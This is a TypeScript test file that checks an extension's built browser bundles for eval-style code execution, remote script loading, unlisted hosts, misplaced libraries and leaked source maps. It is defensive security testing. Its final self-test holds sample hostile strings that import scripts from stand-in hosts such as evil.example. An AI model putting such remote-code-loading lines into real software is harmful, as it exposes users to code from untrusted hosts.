// What is in the files that browsers run: no code from strings or from elsewhere, no host we do not name, and in each
// part only the libraries it may have.
import ts from 'typescript';
import { beforeAll, describe, expect, test } from 'vitest';
import { BUILDS, builtFiles, type BuiltFile } from './built.ts';

/** A string that each library leaves in every minified bundle that holds it. */
const MARKS = {
  preact: 'dangerouslySetInnerHTML',
  zod: 'invalid_type',
  idb: 'continuePrimaryKey',
  polyfill: 'The message port closed before a response was received',
} as const;

/** Ways to run a string as code. `allowsEval` of zod and `devtools.inspectedWindow.eval` of the polyfill are names, not calls. */
const CODE_FROM_TEXT = [
  /(?<![\w$.])eval\s*\(/,
  /(?<![\w$.])Function(?![\w$.])/,
  /\bset(?:Timeout|Interval)\s*\(\s*["'`]/,
  /\bexecuteScript\([^)]*\bcode\s*:/,
];

/** Ways to load code from another place. */
const CODE_FROM_ELSEWHERE = [
  /\bimport\s*\(\s*["'`](?:https?:)?\/\//,
  /\bfrom\s*["'`](?:https?:)?\/\//,
  // Scripts of our own are loaded by their names: docs/decisions/0010.
  /\bimportScripts\??\.?\s*\((?!["'`]\/[a-z]+\.js["'`]\))/,
  /<(?:script|link|img|iframe)\b[^>]*(?:src|href)\s*=\s*["']?(?:https?:)?\/\//i,
  /@import\b[^;]*(?:https?:)?\/\//,
  /url\(\s*["']?(?:https?:)?\/\//,
];

/** Addresses that may be written out, and why. Nothing but the sites we serve is ever called. */
const HOSTS: Readonly<Record<string, string>> = {
  '*.atlassian.net': 'a site we serve',
  '*.jira.com': 'a site we serve',
  'linear.app': 'a site we serve',
  'api.linear.app': 'the API of a site we serve',
  '*.hubspot.com': 'a site we serve',
  'app.hubspot.com': 'where an item opens whose region is not known',
  'api.hubapi.com': 'the API of a site we serve',
  '*.pipedrive.com': 'a site we serve',
  '*.lightning.force.com': 'a site we serve',
  '*.my.salesforce.com': 'the API of a site we serve',
  'www.w3.org': 'names of XML vocabularies, in Preact',
  'jira.example.com': 'an example in our own texts',
  'jira.example.com.': 'an example at the end of a sentence',
  'github.com': 'an error text of wxt/storage',
  'wxt.dev': 'an error text of wxt/storage',
};

/** Host parts of every address written out in a text; `https://${…}` names none. */
const hostsIn = (text: string): readonly string[] =>
  [...text.matchAll(/\b(?:https?|wss?):\/\/([^\s"'`)\\/<>$]*)/g)]
    .map(([, host = '']) => host)
    .filter((host) => host !== '' && host !== '*');

const PAGE_GLOBALS =
  /^(?:document|window|MutationObserver|DOMParser|HTMLElement|Element|Node|localStorage|sessionStorage)$/;
const PAGE_METHODS =
  /^(?:createElement|querySelector|querySelectorAll|getElementById|innerHTML|attachShadow|adoptedStyleSheets)$/;

/** Uses of what only a page has: its globals by name (no key, method or word in a text of the same name), its DOM's methods. */
function domUses(code: string): readonly string[] {
  const tree = ts.createSourceFile('built.js', code, ts.ScriptTarget.Latest, true);
  const uses: string[] = [];
  const visit = (node: ts.Node): void => {
    if (ts.isIdentifier(node)) {
      const named = (node.parent as { name?: ts.Node }).name === node;
      const found = named && ts.isPropertyAccessExpression(node.parent) ? PAGE_METHODS : PAGE_GLOBALS;
      if ((!named || found === PAGE_METHODS) && found.test(node.text))
        uses.push(code.slice(Math.max(0, node.pos - 40), node.end + 20));
    }
    ts.forEachChild(node, visit);
  };
  visit(tree);
  return uses;
}

describe.each(BUILDS)('%s', (build) => {
  let files: readonly BuiltFile[] = [];
  beforeAll(() => {
    files = builtFiles(build);
  }, 120_000);
  const text = (path: string) => files.find((file) => file.path === path)?.text ?? '';
  const offenders = (forbidden: readonly RegExp[]) =>
    files.flatMap((file) =>
      forbidden.flatMap((pattern) => {
        const found = pattern.exec(file.text);
        return found
          ? [`${file.path}: …${file.text.slice(Math.max(0, found.index - 40), found.index + 60)}…`]
          : [];
      }),
    );

  test('holds the parts we look at', () => {
    const paths = files.map((file) => file.path);
    expect(paths).toEqual(
      expect.arrayContaining([
        'background.js',
        'trackers.js',
        'measures.js',
        'content-scripts/jira.js',
        'jira-fields.js',
        'panel.js',
        'popup.html',
        'options.html',
      ]),
    );
  });

  test('runs no text as code', () => expect(offenders(CODE_FROM_TEXT)).toEqual([]));

  test('loads no code, style or picture from elsewhere', () =>
    expect(offenders(CODE_FROM_ELSEWHERE)).toEqual([]));

  test('names no host but those it serves', () => {
    const strange = files.flatMap((file) =>
      hostsIn(file.text)
        .filter((host) => !Object.hasOwn(HOSTS, host))
        .map((host) => `${file.path}: ${host}`),
    );
    expect(strange).toEqual([]);
  });

  test('the marks of the libraries are where the libraries are', () => {
    expect(text('panel.js')).toContain(MARKS.preact);
    expect(text('background.js')).toContain(MARKS.zod);
    expect(text('background.js')).toContain(MARKS.idb);
    expect(text('background.js')).toContain(MARKS.polyfill);
  });

  test.each(Object.entries(MARKS))('no %s in the content script', (_library, mark) => {
    expect(text('content-scripts/jira.js')).not.toContain(mark);
  });

  test.each([
    ['panel.js', 'zod'],
    ['panel.js', 'idb'],
    ['panel.js', 'polyfill'],
    ['background.js', 'preact'],
    ['trackers.js', 'zod'],
    ['trackers.js', 'idb'],
    ['trackers.js', 'polyfill'],
    ['measures.js', 'zod'],
    ['measures.js', 'idb'],
    ['measures.js', 'polyfill'],
    ['backfill.js', 'idb'],
    ['backfill.js', 'polyfill'],
    ['jira-backfill.js', 'zod'],
    ['jira-backfill.js', 'idb'],
    ['jira-backfill.js', 'polyfill'],
  ] as const)('%s has no %s', (path, library) => {
    expect(text(path)).not.toContain(MARKS[library]);
  });

  test('pages hold neither schemas nor the database', () => {
    const pages = files.filter(({ path }) => /^(?:chunks|assets)\/|^(?:popup|options)/.test(path));
    expect(pages.length).toBeGreaterThan(0);
    expect(pages.filter((file) => file.text.includes(MARKS.zod)).map(({ path }) => path)).toEqual([]);
    expect(pages.filter((file) => file.text.includes(MARKS.idb)).map(({ path }) => path)).toEqual([]);
  });

  test('the content script never makes HTML of text', () => {
    expect(text('content-scripts/jira.js')).not.toMatch(
      /innerHTML|outerHTML|insertAdjacentHTML|document\.write|createContextualFragment|DOMParser/,
    );
  });

  test.each(['background.js', 'trackers.js', 'measures.js', 'backfill.js'])('%s has no DOM code', (path) => {
    expect(domUses(text(path))).toEqual([]);
  });

  test('no source maps and no paths of a developer’s machine', () => {
    expect(
      files
        .filter((file) => /sourceMappingURL|\/home\/|\/Users\/|file:\/\//.test(file.text))
        .map(({ path }) => path),
    ).toEqual([]);
  });
});

test('the checks can fail', () => {
  const bad = 'let a=Function;setTimeout("x");eval ("1");import("https://evil.example/x.js")';
  expect(CODE_FROM_TEXT.filter((pattern) => pattern.test(bad))).toHaveLength(3);
  expect(CODE_FROM_ELSEWHERE.some((pattern) => pattern.test(bad))).toBe(true);
  expect(CODE_FROM_ELSEWHERE.some((pattern) => pattern.test('importScripts(`//other.example/a.js`)'))).toBe(
    true,
  );
  expect(CODE_FROM_ELSEWHERE.some((pattern) => pattern.test('a.importScripts?.(`/trackers.js`)'))).toBe(
    false,
  );
  expect(hostsIn('`https://${host}/x` "https://evil.example/y"')).toEqual(['evil.example']);
  expect(domUses('let a={document:1};a.document();"window"')).toEqual([]);
  expect(domUses('document.title;x(window);e.querySelector("a");new MutationObserver(f)')).toHaveLength(4);
});
